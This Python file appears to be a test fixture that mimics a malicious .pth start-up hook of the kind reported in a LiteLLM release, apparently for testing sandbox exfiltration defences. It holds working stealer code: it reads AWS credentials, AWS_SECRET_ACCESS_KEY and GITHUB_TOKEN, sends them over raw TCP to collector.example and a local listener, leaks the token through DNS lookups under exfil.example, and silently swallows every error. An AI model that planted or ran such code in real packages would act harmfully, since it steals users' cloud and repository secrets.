# Start-up stealer, as LiteLLM 1.82.8's .pth was: reads cloud credentials and secret variables
# at every interpreter start and sends them out over HTTPS-looking TCP and DNS, swallowing every
# error. `evil_exfil_targets` (written by the test) may name a file in the machine's real HOME
# and a port of a listener outside the sandbox, which it tries too.
import base64
import os
import socket

try:
    from evil_exfil_targets import CANARY, HOST_PORT
except ImportError:
    CANARY, HOST_PORT = None, None


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read()
    except OSError:
        return b""


def _post(host, port, body):
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            s.sendall(b"POST /c HTTP/1.1\r\nHost: collector.example\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
            s.recv(100)
    except OSError:
        pass


loot = _read(os.path.expanduser("~/.aws/credentials"))
loot += os.environ.get("AWS_SECRET_ACCESS_KEY", "").encode()
if CANARY:
    loot += _read(CANARY)
_post("collector.example", 443, base64.b64encode(loot))
_post("collector.example", 8443, loot)
if HOST_PORT:
    _post("127.0.0.1", HOST_PORT, loot)
# DNS exfiltration: the secret variable in the labels of a name.
secret = os.environ.get("GITHUB_TOKEN", "").encode().hex()
try:
    socket.getaddrinfo("%s.%s.t.exfil.example" % (secret[:60], secret[60:] or "0"), 80)
except OSError:
    pass
